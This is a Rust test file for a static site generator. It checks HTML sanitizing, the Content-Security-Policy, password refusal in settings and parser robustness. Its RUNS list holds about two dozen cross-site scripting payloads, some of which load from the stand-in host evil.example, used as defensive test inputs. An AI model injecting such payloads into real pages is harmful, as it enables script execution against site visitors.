//! Trust: HTML in texts, the Content-Security-Policy, and the promises of SECURITY.md.

#[cfg(feature = "css")]
use base64::Engine as _;
#[cfg(feature = "css")]
use sha2::{Digest as _, Sha256};

use crate::site::{Site, TOML, between, text};

#[path = "../fuzz/targets.rs"]
#[cfg(feature = "images")]
mod targets;

fn article(body: &str) -> String {
    format!("+++\ntitle = \"A\"\ndate = 2026-11-01T08:00:00Z\n+++\n{body}\n")
}

/// A site with these settings, and an article in `news/` with this body.
fn site(settings: &str, body: &str) -> Site {
    let (toml, body) = (format!("{TOML}{settings}"), article(body));
    Site::new(&[("site.toml", toml.as_str()), ("content/news/a.md", body.as_str())])
}

/// The text of the article on its page.
fn shown(site: &Site) -> String {
    body_of(&text(&site.built(), "news/a/index.html"))
}

fn body_of(page: &str) -> String {
    let body = page.split("<div class=\"text e-content\">").nth(1).unwrap_or(page);
    body.split("</article>").next().unwrap_or_default().to_owned()
}

const SANITIZE: &str = "[markdown]\nraw_html = \"sanitize\"\n";
const ESCAPE: &str = "[markdown]\nraw_html = \"escape\"\n";

/// Ways to run a script from a text, each with a word that the page may not have.
const RUNS: [(&str, &str); 24] = [
    ("<script>alert(1)</script>", "alert(1)"),
    ("a <script>alert(1)</script> b", "<script>alert"),
    ("<SCRIPT SRC=//evil.example></SCRIPT>", "evil.example"),
    ("<p onclick=\"evil()\">x</p>", "onclick"),
    ("a <b onmouseover=evil()>x</b>", "onmouseover"),
    ("<img src=https://x.example/a.png onerror=evil()>", "onerror"),
    ("# Title {onclick=evil()}", "onclick"),
    ("[x](javascript:evil())", "javascript:"),
    ("[x](JaVa&#115;cript:evil())", "cript:evil"),
    ("[x]: javascript:evil()\n\n[x]", "href=\"javascript:"),
    ("<javascript:evil()>", "href=\"javascript:"),
    ("![x](javascript:evil())", "src=\"javascript:"),
    ("<a href=\"java&#10;script:evil()\">x</a>", "script:evil"),
    ("<a href=\"data:text/html,<script>evil()</script>\">x</a>", "data:text"),
    ("<iframe srcdoc=\"<script>evil()</script>\"></iframe>", "<iframe"),
    (
        "<object data=\"https://x.example/evil.swf\"></object><embed src=\"https://x.example/evil.swf\">",
        "evil.swf",
    ),
    ("<svg><script>evil()</script></svg>", "evil()"),
    ("<math><mtext><table><mglyph><style><img src onerror=evil()>", "onerror"),
    (
        "<form action=\"https://evil.example\"><button formaction=\"javascript:evil()\">x</button></form>",
        "action",
    ),
    ("<style>@import url(https://evil.example)</style>", "evil.example"),
    ("<p style=\"position:fixed\">x</p>", "position"),
    ("<meta http-equiv=refresh content=\"0;url=https://evil.example\">", "http-equiv"),
    ("<base href=\"https://evil.example/\">", "<base"),
    (
        "<div title=\"\n\n```html\nx onclick=evil() y\n```\n\n{{ <embed url=\"https://a.example/\" title=\"'onclick=evil()'\" /> }}\n\n\">",
        "onclick",
    ),
];

#[test]
fn nothing_in_a_text_runs_where_html_is_sanitized_or_escaped() {
    for (settings, rule) in [(SANITIZE, "sanitize"), (ESCAPE, "escape")] {
        let site = Site::new(&[("site.toml", &format!("{TOML}{settings}"))]);
        for (at, (body, _)) in RUNS.iter().enumerate() {
            site.write(&format!("content/news/run-{at}.md"), article(body));
        }
        let files = site.built();
        for (at, (body, word)) in RUNS.iter().enumerate() {
            let page = body_of(&text(&files, &format!("news/run-{at}/index.html")));
            // Readers may see HTML as text, but no browser reads it as an element.
            let elements = between(&page, "<", ">").join("\n");
            let seen = if word.contains('<') { page.contains(word) } else { elements.contains(word) };
            assert!(!seen, "{rule}: {body}\n{page}");
        }
    }
}

#[test]
fn html_that_runs_nothing_stays_where_it_is_sanitized() {
    let body = "<details class=\"more\">\n<summary>More</summary>\n\nThe *tide* is <kbd>low</kbd>, <ins>now</ins>.\n\n</details>\n\n<table><tr><td colspan=\"2\">x</td></tr></table>";
    let page = shown(&site(SANITIZE, body));
    for expected in [
        "<details class=\"more\">",
        "<summary>More</summary>",
        "<p>The <em>tide</em> is <kbd>low</kbd>, <ins>now</ins>.</p>",
        "<td colspan=\"2\">x</td>",
    ] {
        assert!(page.contains(expected), "{expected}: {page}");
    }
    let (code, problems) = site(SANITIZE, body).problems(&[]);
    assert_eq!((code, problems), (Some(0), Vec::new()));
}

#[test]
fn markdown_makes_the_same_page_with_and_without_html() {
    let body = "# Tide {#tide .big}\n\n1. a[^1]\n2. b\n\n- [x] done\n- [ ] open\n\n| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n> [!NOTE]\n> x\n\n```rust\nfn main() { println!(\"<b>\"); }\n```\n\n~~a~~ `<i>` \"b\" & <https://other.example/?a=1&b=2> ![Alt](https://other.example/a.png \"T\")\n\nterm\n: definition\n\n{% <note title=\"A \\\"b\\\"\"> %}\n**x** `y`\n{% </note> %}\n\n[^1]: The *note*.";
    let body = body.replace("A \\\"b\\\"", "A b");
    let usual = shown(&site("", &body));
    for settings in [SANITIZE, ESCAPE] {
        assert_eq!(plain(&shown(&site(settings, &body))), plain(&usual), "{settings}");
    }
}

/// `html` in one spelling of the same characters.
fn plain(html: &str) -> String {
    html.replace("&quot;", "\"").replace("\n", "")
}

#[test]
fn what_is_left_out_is_told_once_with_its_line() {
    let body =
        "a\n\n<script>x</script>\n\nb <b onclick=\"x\">c</b>\n\n<script>y</script>\n\n[x](javascript:x)";
    let (code, problems) = site(SANITIZE, body).problems(&[]);
    assert_eq!(code, Some(0), "{problems:?}");
    let all = problems.join("\n");
    for expected in
        ["`<script>` is left out (2 times", "the attribute `onclick`", "the address with `javascript:`"]
    {
        assert_eq!(all.matches(expected).count(), 1, "{expected}: {all}");
    }
    let (code, problems) = site(ESCAPE, "a <b>c</b>").problems(&[]);
    assert_eq!((code, problems.len()), (Some(0), 1), "{problems:?}");
    assert!(problems[0].contains("HTML is shown as text (2 times"), "{problems:?}");
}

#[test]
fn escaped_html_is_there_to_read() {
    let page = shown(&site(ESCAPE, "a <b>c</b>\n\n<div>\nx & y\n</div>\n\n<!-- a comment -->"));
    assert!(page.contains("<p>a &lt;b&gt;c&lt;/b&gt;</p>"), "{page}");
    assert!(page.contains("<p>&lt;div&gt;\nx &amp; y\n&lt;/div&gt;</p>"), "{page}");
    assert!(!page.contains("a comment"), "{page}");
}

#[test]
fn front_matter_can_forbid_html_and_never_allow_it() {
    let runs = "<script>alert(1)</script>";
    let front =
        |fields: &str| format!("+++\ntitle = \"A\"\ndate = 2026-11-01T08:00:00Z\n{fields}+++\n{runs}\n");
    let section = |fields: &str| format!("+++\ntitle = \"News\"\n{fields}+++\n{runs}\n");
    for (toml, of_section, of_article, runs_there) in [
        ("", "", "", true),
        ("", "", "raw_html = \"sanitize\"\n", false),
        ("", "raw_html = \"sanitize\"\n", "raw_html = \"allow\"\n", false),
        ("", "[cascade]\nraw_html = \"escape\"\n", "raw_html = \"allow\"\n", false),
        (SANITIZE, "", "raw_html = \"allow\"\n", false),
        (SANITIZE, "raw_html = \"allow\"\n[cascade]\nraw_html = \"allow\"\n", "", false),
        ("[markdown.raw_html]\ndefault = \"escape\"\nnews = \"allow\"\n", "", "", true),
        ("[markdown.raw_html]\nnews = \"sanitize\"\n", "", "", false),
        ("[markdown.raw_html]\n\"news/old\" = \"sanitize\"\n", "", "", true),
        ("[markdown.raw_html]\nnew = \"sanitize\"\n", "", "", true),
    ] {
        let site = Site::new(&[
            ("site.toml", &format!("{TOML}{toml}")),
            ("content/news/_index.md", &section(of_section)),
            ("content/news/a.md", &front(of_article)),
        ]);
        let files = site.built();
        let name = format!("{toml} {of_section} {of_article}");
        let page = text(&files, "news/a/index.html");
        assert_eq!(page.contains("<script>alert(1)"), runs_there, "{name}");
        let own = text(&files, "news/index.html");
        let of_own = runs_there || of_article.starts_with("raw") && toml.is_empty() && of_section.is_empty();
        assert_eq!(own.contains("<script>alert(1)"), of_own, "section: {name}");
    }
}

#[test]
fn another_rule_makes_the_pages_again() {
    let site = site("", "<script>alert(1)</script>");
    let has = |site: &Site| text(&site.built(), "news/a/index.html").contains("<script>alert(1)");
    assert!(has(&site));
    site.write("content/news/_index.md", "+++\ntitle = \"News\"\n[cascade]\nraw_html = \"sanitize\"\n+++\n");
    assert!(!has(&site), "by a section");
    site.write("content/news/_index.md", "+++\ntitle = \"News\"\n+++\n");
    assert!(has(&site), "no more by a section");
    site.write("site.toml", format!("{TOML}[markdown.raw_html]\nnews = \"sanitize\"\n"));
    assert!(!has(&site), "by `site.toml`");
    site.write("site.toml", TOML);
    site.write("content/news/old/_index.md", "+++\ntitle = \"Old\"\n+++\n<script>alert(2)</script>\n");
    let has = |site: &Site| text(&site.built(), "news/old/index.html").contains("<script>alert(2)");
    assert!(has(&site));
    site.write("content/news/_index.md", "+++\ntitle = \"News\"\nraw_html = \"sanitize\"\n+++\n");
    assert!(!has(&site), "the text of a section in another");
}

#[test]
fn a_source_in_html_is_held_to_the_rule() {
    let source = "---\ntitle: A\ndate: 2026-11-01T08:00:00Z\n---\n<p onclick=\"x()\">Low <b>tide</b></p><script>alert(1)</script>\n";
    for (settings, code) in [(SANITIZE, Some(0)), (ESCAPE, Some(1))] {
        let site = Site::new(&[("site.toml", &format!("{TOML}{settings}")), ("content/news/a.html", source)]);
        let (found, problems) = site.problems(&[]);
        assert_eq!(found, code, "{settings}: {problems:?}");
        if code == Some(0) {
            let page = text(&site.output(), "news/a/index.html");
            assert!(page.contains("<p>Low <b>tide</b></p>") && !page.contains("alert(1)"), "{page}");
            assert_eq!(problems.len(), 2, "{problems:?}");
        }
    }
}

#[test]
fn components_stay_and_their_arguments_run_nothing() {
    let components = "{% component player(src: string) %}<iframe src=\"{{ src }}\" onload=\"x()\"></iframe>{% endcomponent player %}";
    let site = site(
        SANITIZE,
        "{{ <player src=\"https://player.example/1\" /> }}\n\n{{ <embed url=\"javascript:evil()\" title=\"T\" /> }}",
    );
    site.write("templates/components.html", components);
    let page = shown(&site);
    assert!(page.contains("<iframe src=\"https://player.example/1\" onload=\"x()\"></iframe>"), "{page}");
    assert!(!page.contains("javascript:"), "{page}");
}

/// The policy in `_headers` of a site, and its files.
fn with_policy(name: &str, policy: &str) -> (String, crate::site::Files) {
    let site = Site::copy(name);
    let toml = std::fs::read_to_string(site.path("site.toml")).unwrap();
    site.write("site.toml", format!("{toml}\n[hosting.csp]\n{policy}"));
    let output = site.build(&[]);
    assert!(output.status.success(), "{output:?}");
    let files = site.output();
    (text(&files, "_headers"), files)
}

#[cfg(feature = "css")]
#[test]
fn every_script_in_a_page_is_covered_by_the_policy() {
    for name in ["harbour", "languages"] {
        let (headers, files) = with_policy(name, "mode = \"on\"\n");
        let policy = between(&headers, "  Content-Security-Policy: ", "\n")[0].to_owned();
        let mut seen = 0;
        for (path, bytes) in files.iter().filter(|(path, _)| path.ends_with(".html")) {
            let page = String::from_utf8_lossy(bytes);
            for script in between(&page, "<script", "</script>") {
                let (tag, code) = script.split_once('>').unwrap();
                if tag.contains("application/ld+json") || tag.contains(" src=\"/") {
                    continue;
                }
                assert!(!tag.contains(" src="), "{name} {path}: {tag}");
                let digest = base64::prelude::BASE64_STANDARD.encode(Sha256::digest(code));
                assert!(policy.contains(&format!("'sha256-{digest}'")), "{name} {path}: {digest} {code}");
                seen += 1;
            }
            for tag in between(&page, "<", ">") {
                let is_handler =
                    tag.split_whitespace().skip(1).any(|word| word.starts_with("on") && word.contains("=\""));
                assert!(!is_handler && !tag.contains("javascript:"), "{name} {path}: <{tag}>");
            }
        }
        assert!(seen > 10, "{name}: {seen}");
    }
    let announced = "[announcement]\ntext = \"Low tide\"\n";
    let site = site(&format!("{announced}[hosting.csp]\nmode = \"on\"\n"), "x");
    let files = site.built();
    let page = text(&files, "news/a/index.html");
    let script = between(&page, "<script>", "</script>")[1];
    let digest = base64::prelude::BASE64_STANDARD.encode(Sha256::digest(script));
    assert!(script.contains("announcement") && text(&files, "_headers").contains(&digest), "{script}");
}

#[test]
fn a_policy_is_sent_by_each_kind_of_server_and_only_if_asked_for() {
    let (headers, _) = with_policy("languages", "");
    assert!(!headers.contains("Content-Security-Policy"), "{headers}");
    let policy = "mode = \"report-only\"\nframe_src = [\"https://player.example\"]\nconnect_src = [\"'none'\"]\nreport_uri = \"https://example.org/reports\"\n";
    let (headers, _) = with_policy("languages", policy);
    let value = between(&headers, "  Content-Security-Policy-Report-Only: ", "\n")[0].to_owned();
    for expected in [
        "default-src 'self'; ",
        "frame-src 'self' https://player.example; ",
        "connect-src 'none'; ",
        "object-src 'none'; ",
        "; report-uri https://example.org/reports",
    ] {
        assert!(value.contains(expected), "{expected}: {value}");
    }
    let site = site(&format!("[hosting.csp]\n{policy}"), "x");
    site.built();
    for (server, field) in [
        ("nginx", "add_header Content-Security-Policy-Report-Only \""),
        ("caddy", "header Content-Security-Policy-Report-Only \""),
    ] {
        let output = site.command(&["hosting", server, "--now", crate::site::NOW]).output().unwrap();
        let printed = String::from_utf8(output.stdout).unwrap();
        let (fields, all) =
            (printed.matches(field).count(), printed.matches("X-Content-Type-Options").count());
        assert!(fields > 0 && fields == all, "{server}: {fields} of {all}\n{printed}");
        assert!(printed.contains(&value), "{server}: {printed}");
    }
}

#[test]
fn a_source_that_would_end_the_policy_is_refused() {
    for wrong in ["\"https://a.example; script-src *\"", "\"unsafe-inline\"", "\"a b\""] {
        let site = site(&format!("[hosting.csp]\nscript_src = [{wrong}]\n"), "x");
        let (code, problems) = site.problems(&[]);
        assert_eq!(code, Some(2), "{wrong}");
        assert!(problems[0].contains("site.toml"), "{wrong}: {problems:?}");
    }
}

/// A password in `site.toml` is refused, and neither a report nor a file has it then.
#[test]
fn a_password_in_a_setting_is_refused_and_in_no_message_and_no_file() {
    for setting in [
        "[deploy.live]\nurl = \"https://ada:s3cr3t@host.example/www/\"",
        "[deploy.live]\nurl = \"ssh://ada:s3cr3t@host.example/www\"",
        "[deploy.live]\nurl = \"git+https://ada:s3cr3t@host.example/site.git#pages\"",
        "[deploy.live]\nurl = \"https://a.blob.core.windows.net/news?sv=2021&sig=s3cr3t\"",
        "[deploy.live]\nurl = \"AccountName=a;AccountKey=s3cr3t\"",
        "[feeds]\nhub = \"https://ada:s3cr3t@hub.example/\"",
    ] {
        let site = site(&format!("{setting}\n"), "x");
        for arguments in [
            &["build"][..],
            &["publish", "--format", "json"],
            &["deploy", "--dry-run"],
            &["status"],
            &["check"],
        ] {
            let output = site.command(arguments).output().unwrap();
            let told = [output.stdout, output.stderr].concat();
            let told = String::from_utf8_lossy(&told);
            assert_eq!(output.status.code(), Some(2), "{setting}: {told}");
            assert!(told.contains("in it") || told.contains("it is no URL"), "{setting}: {told}");
            assert!(told.contains("site.toml") && !told.contains("s3cr3t"), "{setting}: {told}");
        }
        let files = crate::site::tree(&site.path(""));
        for (path, bytes) in files.iter().filter(|(path, _)| *path != "site.toml") {
            assert!(!String::from_utf8_lossy(bytes).contains("s3cr3t"), "{setting}: {path}");
        }
    }
}

#[test]
fn nobody_takes_the_place_of_the_manifest_of_a_deployment() {
    for field in [
        "path = \"/.dateline/deployed.json\"",
        "path = \"/de/.Dateline/deployed.json\"",
        "slug = \".dateline\"",
        "aliases = [\"/%2edateline/deployed.json\"]",
    ] {
        let head = format!("+++\ntitle = \"A\"\ndate = 2026-11-01T08:00:00Z\n{field}\n+++\n");
        let site = Site::new(&[("content/news/a.md", head.as_str())]);
        let (code, problems) = site.problems(&[]);
        assert_eq!(code, Some(1), "{field}: {problems:?}");
        assert!(problems[0].starts_with("path::part content/news/a.md:4:"), "{field}: {problems:?}");
    }
}

/// Links in the documents of the repository that lead into it.
#[test]
fn each_link_in_the_documents_of_the_repository_leads_to_a_file() {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
    let mut looked = 0;
    for name in
        ["README.md", "SECURITY.md", "CONTRIBUTING.md", "ARCHITECTURE.md", "DESIGN.md", "RELIABILITY.md"]
    {
        let text = std::fs::read_to_string(root.join(name)).unwrap();
        for link in text.split("](").skip(1).filter_map(|rest| rest.split(')').next()) {
            let path = link.split('#').next().unwrap_or_default();
            if path.is_empty() || path.contains(':') || path.contains(' ') || path.starts_with('/') {
                continue;
            }
            assert!(root.join(path).exists(), "{name}: {link}");
            looked += 1;
        }
    }
    assert!(looked > 20, "{looked}");
}

#[test]
fn each_promise_of_security_md_names_tests_that_exist() {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
    let security = std::fs::read_to_string(root.join("SECURITY.md")).unwrap();
    let mut sources = String::new();
    for folder in ["src", "tests/it", "tests/clients"] {
        for entry in walkdir::WalkDir::new(root.join(folder)) {
            let entry = entry.unwrap();
            let is_source = entry.path().extension().is_some_and(|end| end == "rs");
            if is_source {
                sources.push_str(&std::fs::read_to_string(entry.path()).unwrap());
            }
        }
    }
    let (mut named, mut is_held) = (0, false);
    for row in security.lines() {
        is_held = row.starts_with("| ") && (is_held || row.contains("| held by"));
        if !is_held || row.contains("| held by") || row.starts_with("| ---") {
            continue;
        }
        let last = row.trim_end_matches(" |").rsplit(" | ").next().unwrap();
        let tests: Vec<&str> = between(last, "`", "`").into_iter().step_by(2).collect();
        assert!(!tests.is_empty(), "no test holds this line: {row}");
        for test in tests {
            let exists = match test.contains('/') {
                true => root.join(test).exists(),
                false => sources.contains(&format!("fn {test}(")),
            };
            assert!(exists, "SECURITY.md names `{test}`, which is no test: {row}");
            named += 1;
        }
    }
    assert!(named > 20, "{named}");
}

/// Beginnings for fuzzed inputs: sources, feeds and settings as people write them, of which the runs change bytes.
#[cfg(feature = "images")]
const SEEDS: [&str; 16] = [
    "+++\ntitle = \"A\"\ndate = 2026-11-01T08:00:00Z\ntags = [\"a\"]\n[extra]\na = 1\n+++\n# B\n\n[c](d.md)[^1] `e`\n\n[^1]: f\n",
    "---\ntitle: A\ndate: 2026-11-01 08:00 +0200\nb: &x [1, {c: *x}]\n---\n> - d <b onclick=\"e\">f</b>\n\n| a | b |\n|--|:-:|\n| c | d |\n",
    "Friday, 14 February, 2014, 2:47pm",
    "2014-02-14T14:47:00.5+08:00[Asia/Hong_Kong]",
    "title = \"T\"\nbase_url = \"https://example.org/a/\"\nauthority = \"example.org,2000\"\n[[lists]]\nname = \"a\"\n[markdown]\nraw_html = \"escape\"\n",
    "Harbour\n\nFerry back\n\nPUBLISHED : Friday, 14 February, 2014, 2:47pm\nUPDATED : Friday, 14 February, 2014, 5:10pm\n\nText \u{201c}a\u{201d}.\n",
    "<div title=\"a\"><script>b</script>\n\n**c** {{ <d e=\"f\" /> }} {% <g> %}\nh\n{% </g> %}\n\n$x^2$ ==i== :j: [[k|l]] https://m.example\n",
    "{\"format\":\"dateline-ledger\",\"version\":1}\n{\"id\":\"a\",\"published\":\"2026-11-01T08:00:00Z\"}\n",
    "https://\u{e9}.example:8080/a%2f../b?c=d#e",
    "<a href='java&#115;cript:x'><img srcset=\"a 1x, b 2x\" style=\"background:url( 'c' )\">",
    "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b \"&c;\">]><rss version=\"2.0\"><channel><title>&b;</title><item><guid>d</guid><pubDate>Sun, 01 Nov 2026 00:00:00 +0000</pubDate><description><![CDATA[<p>e]]></description></item></channel></rss>",
    "<feed xmlns=\"http://www.w3.org/2005/Atom\"><id>a</id><entry><id>b</id><updated>2026-11-01T08:00:00Z</updated><content type=\"xhtml\"><div xmlns=\"http://www.w3.org/1999/xhtml\">c</div></content></entry></feed>",
    "{\"version\":\"https://jsonfeed.org/version/1.1\",\"items\":[{\"id\":\"a\",\"content_html\":\"<p>b\"}]}",
    "\u{1}{{< a b=\"c\" >}} {% d %} <!-- wp:paragraph --><p>e</p><!-- /wp:paragraph --> .. f:: g\n   :h: i\n",
    "a: [1, 2]\nb: {c: \"d\\u00e9\"}\ne: |\n  f\n",
    "GIF89a\u{1}\0\u{1}\0\0\0\0,\0\0\0\0\u{1}\0\u{1}\0\0\u{2}\u{2}D\u{1}\0;",
];

/// Inputs for one target: a seed, or parts of several, with some bytes changed. The same number is the same input.
#[cfg(feature = "images")]
fn changed(number: u64) -> Vec<u8> {
    let mut state = number.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1;
    let mut next = |most: usize| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        (state >> 33) as usize % most.max(1)
    };
    let mut bytes = SEEDS[next(SEEDS.len())].as_bytes().to_vec();
    for _ in 0..next(6) {
        let at = next(bytes.len() + 1);
        match next(5) {
            0 => {
                let other = next(256) as u8;
                bytes.get_mut(at).into_iter().for_each(|byte| *byte = other);
            }
            1 => drop(bytes.drain(at..(at + next(20)).min(bytes.len()))),
            2 => {
                let other = SEEDS[next(SEEDS.len())].as_bytes();
                let from = next(other.len());
                let part = other[from..(from + 1 + next(40)).min(other.len())].to_vec();
                bytes.splice(at..at, part);
            }
            3 => {
                let signs = b"<>\"'&;:[]{}()|`*_#-=+!\\/\n\t\0\xff%$@,.0";
                let sign = signs[next(signs.len())];
                bytes.splice(at..at, std::iter::repeat_n(sign, 1 + next(4)));
            }
            _ => {
                let again = bytes[at..(at + next(30)).min(bytes.len())].to_vec();
                bytes.splice(at..at, again);
            }
        }
    }
    bytes
}

/// `DATELINE_FUZZ_RUNS` is the number of inputs for each target, and `DATELINE_FUZZ_FROM` the first.
#[cfg(feature = "images")]
#[test]
fn fuzzed_inputs_end_no_reader() {
    let number =
        |name: &str, usual: u64| std::env::var(name).ok().and_then(|text| text.parse().ok()).unwrap_or(usual);
    let (runs, from) = (number("DATELINE_FUZZ_RUNS", 100), number("DATELINE_FUZZ_FROM", 0));
    for (name, target) in targets::ALL {
        for number in from..from + runs {
            let bytes = changed(number);
            let ended = std::panic::catch_unwind(|| target(&bytes));
            assert!(ended.is_ok(), "{name}, input {number}: {:?}", String::from_utf8_lossy(&bytes));
        }
    }
}

#[test]
fn shapes_that_parsers_fear_end_in_a_page_or_in_an_error_of_their_file() {
    const N: usize = 3000;
    let front = "+++\ntitle = \"A\"\ndate = 2026-11-01\n+++\n";
    let bodies = [
        ("[".repeat(N), "brackets"),
        ("![".repeat(N), "pictures"),
        ("*a **a ".repeat(N), "emphasis"),
        ((1..200).map(|length| "`".repeat(length) + " ").collect(), "ticks"),
        ((0..N).map(|at| format!("[a{at}]: /x\n")).collect(), "definitions"),
        (format!("{}\n{}\n{}", "|a".repeat(N), "|-".repeat(N), "|b".repeat(N)), "cells"),
        ("[^a]\n\n[^a]: [^b] [^a]\n\n[^b]: [^a]\n".to_owned(), "footnotes in a circle"),
        (format!("${}$", "\\frac{".repeat(500) + &"}".repeat(500)), "fractions"),
        ("<!--".repeat(N), "comments"),
        ("<b a=\"".repeat(N), "open quotes"),
        ("{{ <a ".repeat(N), "open calls"),
        ("[a](<".repeat(N), "open links"),
        ("a\u{301}".repeat(N), "marks"),
        ("\0\r\u{feff}\u{202e}\u{200d}".repeat(N), "signs that are not seen"),
        (format!("# a {{{}}}", ".a ".repeat(N)), "classes"),
        ("https://a@b.c==:x:[[y|".repeat(N), "switches"),
    ];
    let fronts = [
        (format!("+++\n{}b = 1\n+++\n", "a.".repeat(N)), "dotted keys"),
        (format!("---\na: {}\n---\n", "{a: ".repeat(N)), "open maps"),
        (
            format!("---\n{}---\n", (0..600).map(|at| " ".repeat(at) + "a:\n").collect::<String>()),
            "indented maps",
        ),
        (format!("---\n{}a\n---\n", "- ".repeat(N)), "lists in lists"),
        (format!("{}\n", "{\"a\":".repeat(N)), "JSON"),
        (format!("---\ntitle: a\nweight: {0}\ndate: {0}\n---\n", "9".repeat(N)), "numbers"),
        (
            format!("---\n{}---\n", (0..N).map(|at| format!("k{at}: &a{at} 1\n")).collect::<String>()),
            "anchors",
        ),
    ];
    let bodies = bodies.into_iter().map(|(body, name)| (format!("{front}{body}\n"), name));
    let site = Site::new(&[(
        "site.toml",
        &format!(
            "{TOML}[markdown]\nautolinks = true\nwikilinks = true\nemoji = true\nmark = true\nmath = true\n"
        ),
    )]);
    for (at, (source, _)) in bodies.chain(fronts).enumerate() {
        site.write(&format!("content/news/shape-{at}.md"), source);
    }
    let (code, problems) = site.problems(&[]);
    assert_eq!(code, Some(1), "no crash");
    let elsewhere: Vec<&String> = problems.iter().filter(|problem| !problem.contains("shape-")).collect();
    assert!(elsewhere.is_empty(), "each names its file: {elsewhere:?}");
}
